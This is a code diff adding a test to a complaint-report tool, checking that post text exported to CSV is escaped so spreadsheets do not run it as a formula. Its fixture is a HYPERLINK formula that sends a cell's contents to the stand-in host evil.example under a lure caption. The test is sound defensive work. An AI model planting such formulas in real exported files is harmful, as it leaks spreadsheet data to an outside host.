@@ -99,6 +99,19 @@ def test_report_renders_as_markdown_csv_and_html(filled):
     assert "| 社交媒体 | 2 | 66.7% |" in md
 
 
+def test_post_text_in_a_csv_never_runs_as_a_spreadsheet_formula(tmp_path):
+    clock = Clock(END - timedelta(days=3))
+    tickets = TicketService(connect(tmp_path / "cw.db"), clock=clock)
+    formula = '=HYPERLINK("http://evil.example/?x="&B2,"极光优选快递丢了，点此查看")'
+    tickets.convert([post(1, formula, "logistics")], actor="x")
+    tickets.convert([post(2, "@所有人 极光优选快递又丢了", "logistics")], actor="x")
+    rows = list(csv.DictReader(io.StringIO(render(build_report(tickets, "7d", until=END), "summary-csv"))))
+    [top] = [row for row in rows if row["section"] == "top_problem"]
+    assert top["share"] in ("'" + formula, "'@所有人 极光优选快递又丢了")  # a leading ' makes it text
+    metrics = {row["key"]: row["value"] for row in rows if row["section"] == "metric"}
+    assert metrics["complaint_rate"] == "-" and metrics["total"] == "2"  # numbers and "-" stay as they were
+
+
 def test_report_command_writes_a_file(tmp_path, capsys, filled):
     from crisiswatch.cli import main
 
